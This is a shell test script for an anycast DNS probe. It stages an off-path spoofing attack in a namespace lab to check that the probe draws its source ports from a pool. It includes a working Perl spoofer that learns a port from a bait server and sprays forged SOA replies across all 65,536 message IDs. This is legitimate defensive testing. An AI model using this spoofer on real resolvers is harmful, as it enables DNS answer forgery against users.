#!/bin/bash
# attack.t - an off-path spoofing attack on the probe, in the anycast lab.
#
# The probe (vantage namespace) has two targets: `victim`, the anycast
# service 192.0.2.53 whose catchment is site 1, and `bait`, a server the
# attacker controls (a UDP socket in site 2 on its link address, port
# 5353) that only notes the source port of each query it gets. Site 1's DNS
# server is stopped and replaced by the attacker's socket on 192.0.2.53:53,
# which never answers: the victim's queries time out, as at a dead site.
# For every round, the attacker reads the port the bait just saw and sprays
# all 65,536 message IDs, as replies from 192.0.2.53:53 with the right
# question and an SOA of serial 666, to that port of the probe's address on
# site 1's link, again and again until the round is over. It never looks at
# the victim's queries (the harness logs their source ports, for the
# verdict only).
#
# With one long-lived UDP socket per family the port the bait sees is the
# victim's too, and every victim timeout becomes result=success, serial 666.
# With source ports drawn from a pool (RFC 5452; SPEC "Trust, added"), the
# attacker must guess the port as well. Verdict per round: a spoofed success
# on a query that left from a port the bait had not seen is a failure; one
# from the bait's port (a 1-in-64 coincidence of the pool) is allowed and
# said; and at most half the rounds may share the bait's port (a fixed socket
# shares it in all of them, which fails).
#
# Needs root and `ip netns`; skips otherwise.
set -u
cd "$(dirname "$0")/../.." || exit 2
root=$PWD
probe=${ANYCAST_PROBE:-$root/build/anycast-probe}
ROUNDS=${ATTACK_ROUNDS:-6}

# shellcheck source=tests/lib/tap.sh
. tests/lib/tap.sh

if [ "$(id -u)" -ne 0 ]; then
	echo "1..0 # SKIP needs root (network namespaces)"
	exit 0
fi
# shellcheck source=tests/lab/lab.sh
. tests/lab/lab.sh
if ! lab_usable; then
	echo "1..0 # SKIP needs root and a working 'ip netns'"
	exit 0
fi
for c in nsd knotd named kdig perl; do
	if ! command -v "$c" >/dev/null; then
		echo "1..0 # SKIP $c not installed (make deps)"
		exit 0
	fi
done
[ -x "$probe" ] || { echo "1..0 # SKIP no probe binary ($probe)"; exit 0; }

T=$(mktemp -d /tmp/attack.XXXXXX)
PIDS=()
cleanup() {
	exec 3>&- 2>/dev/null
	for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
	for p in "${PIDS[@]}"; do wait "$p" 2>/dev/null; done
	lab_down
	rm -rf "$T"
}
# shellcheck disable=SC2034 # read by lab_up
LAB_TRAP=0
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

lab_up 2
ok $? "lab_up 2"
lab_kill_site_server 1
ok $? "site 1's DNS server stopped"
bait_addr=$(lab_link_addr 2 ipv4)
victim_dst=$(lab_vantage_addr 1 ipv4) # the probe's address towards site 1

# The bait: logs "PORT" per query to bait.log; answers nothing.
ip netns exec "${LAB_SITE_NS[2]}" perl -MIO::Socket::INET -e '
	my ($addr, $log, $portfile) = @ARGV;
	my $s = IO::Socket::INET->new(LocalAddr => $addr, LocalPort => 5353,
		Proto => "udp") or die "bait: $!";
	open(my $l, ">>", $log) or die; $l->autoflush(1);
	open(my $r, ">", "$log.ready"); close $r;
	my ($end, $seq) = (time + 120, 0);
	while (time < $end) {
		my $rin = ""; vec($rin, fileno($s), 1) = 1;
		next unless select(my $rout = $rin, undef, undef, 0.5);
		my $peer = $s->recv(my $buf, 4096) // next;
		my $port = $s->peerport;
		print $l "$port\n";
		$seq++;
		open(my $p, ">", "$portfile.tmp") or die; print $p "$seq $port\n"; close $p;
		rename("$portfile.tmp", $portfile);
	}' "$bait_addr" "$T/bait.log" "$T/port" &
PIDS+=($!)

# The attacker, on the silent site's address. Each time the bait has seen a
# query ($T/port: "SEQ PORT"), it sprays all IDs to that port; it logs each
# victim query's source port to victim.log (bookkeeping for the verdict,
# never used to aim).
ip netns exec "${LAB_SITE_NS[1]}" perl -MIO::Socket::INET -MSocket -e '
	my ($svc, $dst, $portfile, $vlog, $stats, $stop) = @ARGV;
	my $s = IO::Socket::INET->new(LocalAddr => $svc, LocalPort => 53,
		Proto => "udp") or die "attacker: $!";
	$s->blocking(0);
	open(my $v, ">>", $vlog) or die; $v->autoflush(1);
	open(my $r, ">", "$vlog.ready"); close $r;
	# example.test SOA IN, answer: the same name, SOA serial 666
	my $q = "\x07example\x04test\x00" . pack("n n", 6, 1);
	my $rdata = "\x00\x00" . pack("N5", 666, 3600, 600, 86400, 300);
	my $body = pack("n5", 0x8400, 1, 1, 0, 0) . $q
		. "\xc0\x0c" . pack("n n N n", 6, 1, 300, length $rdata) . $rdata;
	my ($sweeps, $pkts, $last) = (0, 0, 0);
	my $end = time + 120;
	my $drain = sub {
		while (defined(my $peer = $s->recv(my $buf, 4096))) {
			last unless length $buf >= 2;
			my ($port) = (sockaddr_in($peer))[0];
			printf $v "%d %d\n", $port, unpack("n", $buf);
		}
	};
	while (time < $end && !-e $stop) {
		$drain->();
		open(my $pf, "<", $portfile) or do { select(undef, undef, undef, 0.005); next };
		my ($seq, $port) = split " ", (<$pf> // ""); close $pf;
		if (!defined $port || $seq == $last) { select(undef, undef, undef, 0.002); next }
		$last = $seq;
		my $to = sockaddr_in($port, inet_aton($dst));
		for my $id (0 .. 65535) {
			send($s, pack("n", $id) . $body, 0, $to) and $pkts++;
			$drain->() if ($id & 4095) == 0;
		}
		$sweeps++;
		open(my $st, ">", $stats) or die; print $st "$sweeps $pkts\n"; close $st;
	}' "$LAB_SVC4" "$victim_dst" "$T/port" "$T/victim.log" "$T/stats" "$T/stop" &
PIDS+=($!)

ready=1
for _ in $(seq 500); do
	[ -e "$T/bait.log.ready" ] && [ -e "$T/victim.log.ready" ] && { ready=0; break; }
	sleep 0.01
done
ok $ready "bait and attacker are listening"

cat >"$T/p.conf" <<EOF
[probe]
timeout = 2s
retries = 0
identity =
nsid = yes

[target victim]
server = $LAB_SVC4
query = example.test SOA

[target bait]
server = $bait_addr
port = 5353
query = bait.example.test A
EOF

# The probe, driven by stdin lines; each round has 2 rows.
exec 3> >(lab_exec_vantage "$probe" -c "$T/p.conf" >"$T/out" 2>"$T/err")
PIDS+=($!)
rounds_ok=0
for r in $(seq "$ROUNDS"); do
	echo >&3
	got=0
	for _ in $(seq 1000); do
		[ "$(wc -l <"$T/out")" -ge $((2 * r)) ] && { got=1; break; }
		sleep 0.01
	done
	[ $got -eq 1 ] && rounds_ok=$((rounds_ok + 1))
done
: >"$T/stop"
exec 3>&-
ok $((rounds_ok != ROUNDS)) "$ROUNDS rounds ran ($rounds_ok with both rows)"
read -r sweeps pkts <"$T/stats" 2>/dev/null || { sweeps=0; pkts=0; }
ok $((sweeps < ROUNDS)) "the attacker swept all 65,536 IDs once a round: $sweeps sweeps, $pkts packets"
ok $(($(wc -l <"$T/bait.log") < ROUNDS)) "the bait learnt the probe's source port each round ($(wc -l <"$T/bait.log") queries)"
ok $(($(wc -l <"$T/victim.log") < ROUNDS)) "the victim's queries reached the silent site ($(wc -l <"$T/victim.log"))"

# Verdict, round by round: round r's victim query (r-th line of victim.log),
# the bait's port of round r, and round r's victim row.
verdict=$(perl -e '
	my ($out, $bait, $victim) = @ARGV;
	my @rows = grep { /^dns_anycast,target=victim,/ } do { open(my $f, "<", $out) or die; <$f> };
	my @b = map { (split)[0] } do { open(my $f, "<", $bait) or die; <$f> };
	my @v = map { (split)[0] } do { open(my $f, "<", $victim) or die; <$f> };
	my ($blind, $known, $same, $n) = (0, 0, 0, 0);
	my @diag;
	for my $i (0 .. $#rows) {
		last unless defined $v[$i] && defined $b[$i];
		$n++;
		my $shared = $v[$i] == $b[$i];
		$same++ if $shared;
		my $spoofed = $rows[$i] =~ /result=success/;
		push @diag, sprintf("round %d: victim port %d, bait port %d, %s", $i + 1,
			$v[$i], $b[$i], $spoofed ? "SPOOFED (serial 666)" : "not spoofed");
		if ($spoofed) { $shared ? $known++ : $blind++; }
	}
	print "$n $same $known $blind\n", map { "$_\n" } @diag;
' "$T/out" "$T/bait.log" "$T/victim.log")
read -r rn same known blind <<<"$(head -1 <<<"$verdict")"
details=$(tail -n +2 <<<"$verdict")
ok $((rn < ROUNDS)) "every round's query, bait port and row lined up ($rn)" "$details"
ok $((blind != 0)) "zero spoofed successes on queries from a port the bait did not see ($blind)"
ok $((2 * same > rn)) "victim queries do not share the bait's source port ($same of $rn rounds did; a fixed socket shares it always)"
[ "$known" -gt 0 ] && echo "# $known spoofed successes where the pool happened to reuse the bait's port (1 in 64)"
printf '%s\n' "$details" | sed 's/^/# /'
spoofed_rows=$(grep -c 'target=victim.*result=success' "$T/out")
echo "# victim rows result=success (spoofed): $spoofed_rows of $rn"

echo "1..$n"
[ "$failed" -eq 0 ]
